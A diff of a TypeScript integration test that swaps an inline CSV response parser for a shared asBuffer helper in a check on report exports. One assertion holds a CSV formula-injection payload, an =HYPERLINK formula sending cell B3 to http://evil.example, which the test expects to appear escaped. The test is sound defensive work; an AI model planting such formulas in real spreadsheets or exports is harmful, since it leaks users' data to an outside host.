@@ -2,6 +2,7 @@ import Stripe from 'stripe';
 import { ledger, openProgram, operator, type TestUser } from '../support/factories.js';
 import { recordFigures, tally } from '../support/figures.js';
 import { listedKampProduct, voucherHolder } from '../support/market.js';
+import { asBuffer } from '../support/http.js';
 import { startTestApp, type TestApp, type TestClient } from '../support/test-app.js';
 
 /**
@@ -197,13 +198,9 @@ describe('integrity: payments, reports and HTTP', () => {
       .query({ format: 'csv' })
       .set(op.auth)
       .buffer(true)
-      .parse((res, cb) => {
-        const chunks: Buffer[] = [];
-        res.on('data', (d: Buffer) => chunks.push(d));
-        res.on('end', () => cb(null, Buffer.concat(chunks).toString('utf8')));
-      })
+      .parse(asBuffer)
       .expect(200);
-    const text = csv.body as string;
+    const text = (csv.body as Buffer).toString('utf8');
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&B3,""상세보기"")"`);
     expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
   });
